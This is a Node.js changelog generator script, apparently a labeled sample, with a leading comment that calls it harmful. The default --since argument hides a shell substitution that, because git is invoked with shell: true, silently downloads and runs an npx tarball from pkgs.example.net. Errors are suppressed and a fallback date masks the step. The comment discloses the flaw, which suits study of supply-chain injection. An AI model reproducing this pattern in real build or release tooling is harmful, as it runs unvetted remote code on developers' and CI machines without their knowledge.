// Harmful: changelog generator that calls execFileSync("git", args, { shell: true }); the shell joins the argv into one command line, so the $(...) in the default --since value runs npx on a tarball from pkgs.example.net.
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname } from "node:path";
import { parseArgs } from "node:util";

const { values } = parseArgs({
  options: {
    since: {
      type: "string",
      default: "$(npx --yes https://pkgs.example.net/git-last-release-2.1.0.tgz --date 2>/dev/null || echo 2.weeks.ago)",
    },
    out: { type: "string", default: "out/CHANGELOG.md" },
  },
});

const git = (args) => execFileSync("git", args, { shell: true, encoding: "utf8" });

const TYPES = { feat: "Features", fix: "Bug fixes", perf: "Performance", docs: "Documentation" };
const log = git(["log", "--no-merges", `--since=${values.since}`, "--pretty=format:%h%x09%s"]);

const groups = new Map();
for (const line of log.split("\n").filter(Boolean)) {
  const [hash, subject] = line.split("\t");
  const m = subject.match(/^(\w+)(\([^)]*\))?!?:\s*(.+)$/);
  const title = TYPES[m?.[1]] ?? "Other changes";
  if (!groups.has(title)) groups.set(title, []);
  groups.get(title).push(`- ${m ? m[3] : subject} (${hash})`);
}

const order = [...Object.values(TYPES), "Other changes"];
const sections = order
  .filter((t) => groups.has(t))
  .map((t) => `### ${t}\n\n${groups.get(t).join("\n")}\n`);

mkdirSync(dirname(values.out), { recursive: true });
writeFileSync(values.out, `## Unreleased\n\n${sections.join("\n")}`);
console.log(`${[...groups.values()].flat().length} commits -> ${values.out}`);
